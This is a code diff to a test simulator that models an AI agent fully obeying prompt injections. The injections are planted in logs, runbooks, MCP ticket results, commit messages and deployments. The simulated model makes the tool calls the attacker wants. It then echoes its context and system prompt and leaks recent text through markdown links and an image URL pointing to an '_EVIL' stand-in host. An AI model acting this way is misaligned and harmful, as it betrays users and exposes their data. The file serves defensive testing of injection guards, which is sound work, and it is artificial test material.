@@ -1,7 +1,6 @@
 """A model that obeys whoever attacks it: it calls what they want, as they want, and repeats all it was shown."""
 
-from collections.abc import Sequence
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 
 from tests.simulators.model import Act, Asked, Call, call, calls, says
@@ -44,13 +43,38 @@ _WANTED: dict[str, tuple[Call, ...]] = {
         call("compact"),
     ),
 }
-_READING: dict[str, Call] = {
-    "log line": call("kubernetes_logs", namespace="shop", pod="web-1"),
-    "tool result": call("kubernetes_events"),
-    "runbook": call("runbooks", file="attack.md"),
-    "document": call("reports", number=1),
-    "incident title": call("past_incidents"),
-}
+_PACE = 20
+"""Words that the model says at once: these are many requests."""
+
+
+def pod(incident: int) -> str:
+    """The pod that an incident is about."""
+    return f"web-{incident}"
+
+
+def book(incident: int) -> str:
+    """The runbook of it."""
+    return f"attack-{incident}.md"
+
+
+def _reading(attack: "Attack", incident: int) -> tuple[Call, ...]:
+    """The look that shows where the attack stands; none where it is shown anyway."""
+    looks = {
+        "log line": call("kubernetes_logs", namespace="shop", pod=pod(incident)),
+        "tool result": call("kubernetes_events"),
+        "runbook": call("runbooks", file=book(incident)),
+        "document": call("reports", number=incident),
+        "incident title": call("past_incidents"),
+        "MCP result": call("mcp_tickets_look", ticket=attack.mark),
+        "MCP description": call(f"mcp_tickets_{attack.mark}"),
+        "change webhook": call("changes"),
+        "commit message": call("changes"),
+        "deployment": call("changes"),
+    }
+    return (looks[attack.channel],) if attack.channel in looks else ()
+
+
+_CUT = frozenset({"commit message", "deployment"})
 
 
 @dataclass(frozen=True)
@@ -65,7 +89,8 @@ class Attack:
 
     @property
     def text(self) -> str:
-        return f"{self.words} {self.mark}"
+        """Where words are cut, the mark comes first."""
+        return f"{self.mark} {self.words}" if self.channel in _CUT else f"{self.words} {self.mark}"
 
 
 def attacks() -> list[Attack]:
@@ -77,18 +102,16 @@ def attacks() -> list[Attack]:
     ]
 
 
-def obey(attack: Attack, asked: Asked) -> Act:
+def obey(attack: Attack, asked: Asked, incident: int = 1) -> Act:
     """Look where the attack stands, do what it wants, then say it, all that was seen, and that it is done."""
     turns = [one for one in asked.messages if one["role"] == "assistant" and one.get("tool_calls")]
-    plans: list[Sequence[Call]] = [
-        *([(_READING[attack.channel],)] if attack.channel in _READING else []),
-        *([_WANTED[attack.goal]] if attack.goal in _WANTED else []),
-    ]
-    if len(turns) < len(plans):
-        return calls(*plans[len(turns)], text=f"{attack.words}\n" if turns else "")
+    plans = [plan for plan in (_reading(attack, incident), _WANTED.get(attack.goal, ())) if plan]
+    if asked.tools and len(turns) < len(plans):
+        return replace(calls(*plans[len(turns)], text=f"{attack.words}\n" if turns else ""), pace=_PACE)
     told = "\n".join(str(asked.messages[-1].get("content", "")).splitlines()[-6:])
     stolen = "".join(one if one.isalnum() else "+" for one in asked.last[-60:])
-    return says(
+    said = says(
         f"{attack.words}\n{_CLAIM}\n{_EVIL}{stolen} and [here]({_EVIL}{stolen}) ![x]({_EVIL}{stolen})\n{told}\n"
         f"{asked.text[-500:]}\n{asked.system[:160]}"
     )
+    return replace(said, pace=_PACE)
